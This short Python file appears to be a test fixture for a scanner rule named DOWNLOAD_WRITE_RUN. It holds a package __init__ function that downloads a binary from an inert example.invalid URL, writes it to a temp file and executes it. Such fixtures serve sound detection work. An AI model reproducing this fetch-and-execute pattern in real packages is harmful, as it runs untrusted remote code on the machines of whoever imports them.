# canary-test: path=pyepkg/__init__.py artifact=wheel
# Download to a temp file and run it (inert URL).
import os
import subprocess
import tempfile

import requests


def init(url="https://example.invalid/tool.bin"):
    # ruleid: DOWNLOAD_WRITE_RUN
    response = requests.get(url)
    file_path = os.path.join(tempfile.gettempdir(), "inert.bin")
    with open(file_path, "wb") as file:
        # ruleid: DOWNLOAD_WRITE_RUN
        file.write(response.content)
    # ruleid: DOWNLOAD_WRITE_RUN
    subprocess.run([file_path])
